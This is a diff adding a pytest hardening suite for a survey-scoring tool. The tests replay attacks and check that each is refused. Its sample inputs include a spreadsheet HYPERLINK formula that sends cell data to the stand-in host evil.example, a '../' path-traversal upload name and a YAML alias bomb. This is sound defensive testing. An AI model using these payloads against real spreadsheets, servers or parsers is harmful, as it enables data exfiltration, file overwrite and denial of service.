@@ -1,0 +1,261 @@
+"""Hardening (issue 19): each attack or careless-operator mistake replayed, then refused."""
+
+from __future__ import annotations
+
+import io
+import os
+import shutil
+import stat
+import threading
+import time
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from click.testing import CliRunner
+from streamlit.testing.v1 import AppTest
+
+from ocf import cache
+from ocf.access import SYSTEM, sign_in
+from ocf.cli import main
+from ocf.demo import demo_actor
+from ocf.errors import ConfigError
+from ocf.loading import parse_survey
+from ocf.models import Site
+from ocf.reports import export_round
+from ocf.rounds import change_status, open_round, resolve_content
+from ocf.spreadsheet import neutralise
+from ocf.store import Store
+
+from .conftest import FIXTURES, PROJECT, dump
+
+APP = str(PROJECT / "streamlit_app.py")
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def invoke(*args: str) -> object:
+    return CliRunner().invoke(main, list(args))
+
+
+# --------------------------------------------------------------------------- safe by default
+
+
+def test_make_run_and_streamlit_listen_on_this_computer_only() -> None:
+    """`make run` served on every interface; the demo's one-click admin was open to the LAN."""
+    assert "--server.address $(ADDRESS)" in (PROJECT / "Makefile").read_text()
+    assert "ADDRESS ?= 127.0.0.1" in (PROJECT / "Makefile").read_text()
+    assert 'address = "127.0.0.1"' in (PROJECT / ".streamlit" / "config.toml").read_text()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["users", "add", "Real Lead", "--role", "lead", "--site", "XTA1", "--email", "r@nhs.net"],
+        ["site", "add", "RZZ", "--name", "A real trust"],
+        ["import", "responses", "FILE"],
+        ["import", "detentions", "FILE"],
+    ],
+)
+def test_the_demo_database_refuses_real_accounts_and_imports(
+    demo_path: Path, tmp_path: Path, command: list[str]
+) -> None:
+    """A real account written into the demo was shown to anyone clicking 'Administrator'."""
+    db = tmp_path / "demo.db"
+    shutil.copy(demo_path, db)
+    csv = tmp_path / "data.csv"
+    csv.write_text("site,period,measure,ethnic_group,count,population\nXTA1,2024-25,x,White,1,9\n")
+    before = dump(Store.open(db))
+    args = [str(csv) if a == "FILE" else a for a in command]
+    result = invoke(*args, "--db", str(db))
+    assert result.exit_code == 1
+    assert "demo database" in result.output and "Traceback" not in result.output
+    assert dump(Store.open(db)) == before
+
+
+def test_an_upload_name_is_never_used_as_a_path(demo_path: Path, tmp_path: Path) -> None:
+    """The import page wrote an upload to tmpdir/upload.name: '../' went where it pointed."""
+    db = tmp_path / "ocf.db"
+    shutil.copy(demo_path, db)
+    target = tmp_path / "escaped.csv"
+    at = AppTest.from_file(APP, default_timeout=30)
+    os.environ["OCF_DB"] = str(db)
+    try:
+        at.session_state["actor"] = demo_actor(Store.open(db), "admin")
+        at.switch_page("app_pages/admin_imports.py").run()
+        body = b"site,period,measure,ethnic_group,count,population\nXTA1,2024-25,x,White,1,9\n"
+        at.file_uploader[0].upload(f"../../../../{target}", body, "text/csv").run()
+        at.file_uploader[0].upload(str(target), body, "text/csv").run()
+    finally:
+        del os.environ["OCF_DB"]
+    assert not at.exception
+    assert not target.exists()
+
+
+# --------------------------------------------------------------------------- formulas
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_formula_looking_text_is_neutralised(lead: str) -> None:
+    assert neutralise(f"{lead}cmd") == f"'{lead}cmd"
+    assert neutralise("plain") == "plain" and neutralise(-0.5) == -0.5 and neutralise(None) is None
+
+
+def test_a_round_id_must_follow_the_documented_pattern(tmp_path: Path) -> None:
+    db = str(tmp_path / "ocf.db")
+    result = invoke("round", "add", FORMULA, "--framework", "ocf-race-equality", "--db", db)
+    assert result.exit_code == 1 and "round id" in result.output
+    assert Store.open(db).list_rounds() == []
+
+
+def test_exports_and_listings_neutralise_formula_cells(tmp_path: Path) -> None:
+    """A site name or an audit entry that starts with '=' must not become a live formula."""
+    db = tmp_path / "ocf.db"
+    store = Store.open(db)
+    store.add_sites([Site("RX1", FORMULA)], "t")
+    open_round(store, "r1", resolve_content("ocf-race-equality"), "t")
+    listing = invoke("site", "list", "--db", str(db)).output
+    assert FORMULA not in listing.replace(f"'{FORMULA}", "")
+    audit = invoke("audit", "--db", str(db)).output
+    assert "\n=" not in audit and ",=" not in audit
+    change_status(store, "r1", "close", "t")
+    xlsx = export_round(store, SYSTEM, "r1", tmp_path / "scores.xlsx")
+    book = openpyxl.load_workbook(xlsx)
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+
+
+# --------------------------------------------------------------------------- YAML bombs
+
+
+BOMB = """id: bomb
+version: 1
+framework: tiny
+audience: panel
+title: Bomb
+a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
+b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
+c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
+d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
+e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
+f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
+g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
+h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
+sections: []
+"""
+
+
+def test_a_yaml_alias_bomb_is_refused_quickly_with_a_line() -> None:
+    from ocf.loading import load_library
+
+    framework = load_library([FIXTURES / "framework-minimal.yaml"]).frameworks["tiny"]
+    started = time.monotonic()
+    with pytest.raises(ConfigError) as error:
+        parse_survey(BOMB, "bomb.yaml", framework)
+    assert time.monotonic() - started < 5
+    assert "bomb.yaml:" in str(error.value) and "alias" in str(error.value)
+
+
+def test_a_self_referencing_alias_is_refused_with_a_line(tmp_path: Path) -> None:
+    path = tmp_path / "loop.yaml"
+    path.write_text("id: loop\nversion: 1\nloop: &x [*x]\n")
+    result = invoke("validate", str(path))
+    assert result.exit_code == 1 and "Traceback" not in result.output
+    assert f"{path}:3:" in result.output
+
+
+def test_the_shipped_surveys_still_use_their_anchors() -> None:
+    """Bounded, not banned: small shared option lists (x-sets) stay allowed."""
+    assert invoke("validate").exit_code == 0
+
+
+# --------------------------------------------------------------------------- files
+
+
+def test_database_backup_and_exports_are_private_to_their_owner(tmp_path: Path) -> None:
+    db = tmp_path / "ocf.db"
+    store = Store.open(db)
+    store.add_sites([Site("RX1", "Trust")], "t")
+    open_round(store, "r1", resolve_content("ocf-race-equality"), "t")
+    change_status(store, "r1", "close", "t")
+    files = [db, store.backup(tmp_path / "backup.db")]
+    files.append(export_round(store, SYSTEM, "r1", tmp_path / "scores.csv"))
+    files.append(export_round(store, SYSTEM, "r1", tmp_path / "scores.xlsx"))
+    for path in files:
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
+
+
+def test_a_mistyped_db_creates_nothing(tmp_path: Path) -> None:
+    """`ocf score --db /nonexistent-dir/x.db` made the folder and an empty database."""
+    missing = tmp_path / "no-such-folder" / "x.db"
+    for args in (["score", "--round", "r1"], ["audit"], ["round", "list"], ["site", "list"]):
+        result = invoke(*args, "--db", str(missing))
+        assert result.exit_code == 1, args
+        assert f"no database at {missing}" in result.output
+    assert not missing.parent.exists()
+    plain = tmp_path / "new.db"
+    result = invoke("site", "add", "RX1", "--name", "A trust", "--db", str(plain))
+    assert result.exit_code == 0 and f"created a new database at {plain}" in result.stderr
+
+
+# --------------------------------------------------------------------------- races
+
+
+def test_sign_in_throttling_counts_every_parallel_attempt(tmp_path: Path) -> None:
+    """60 parallel wrong codes from one address: all but MAX_FAILED_SIGN_INS must be refused
+    before their code is even checked."""
+    from ocf.access import MAX_FAILED_SIGN_INS
+    from ocf.errors import PermissionDenied
+
+    db = tmp_path / "ocf.db"
+    Store.open(db).close()
+    checked, refused = [], []
+    barrier = threading.Barrier(12)
+
+    def attempt() -> None:
+        store = Store.open(db)
+        barrier.wait()
+        for _ in range(5):
+            try:
+                sign_in(store, "AAAA-BBBB-CCCC", client="203.0.113.9")
+                checked.append(1)
+            except PermissionDenied:
+                refused.append(1)
+        store.close()
+
+    threads = [threading.Thread(target=attempt) for _ in range(12)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert len(checked) == MAX_FAILED_SIGN_INS and len(refused) == 60 - MAX_FAILED_SIGN_INS
+
+
+def test_the_cache_is_safe_across_threads(tmp_path: Path) -> None:
+    """8 threads × 20,000 calls gave KeyErrors."""
+    Store.open(tmp_path / "ocf.db").close()
+    errors = []
+
+    def hammer(number: int) -> None:
+        store = Store.open(tmp_path / "ocf.db")  # one connection per thread, as pages do
+        try:
+            for i in range(20_000):
+                cache.cached(store, "t", str((number * 7 + i) % 97), lambda i=i: i)
+        except Exception as error:
+            errors.append(error)
+
+    threads = [threading.Thread(target=hammer, args=(n,)) for n in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert errors == []
+
+
+def test_csv_outputs_read_back_unchanged_apart_from_the_mark(tmp_path: Path) -> None:
+    db = tmp_path / "ocf.db"
+    Store.open(db).add_sites([Site("RX1", "+44 Trust")], "t")
+    table = pd.read_csv(io.StringIO(invoke("site", "list", "--db", str(db)).output))
+    assert table.loc[0, "name"] == "'+44 Trust"
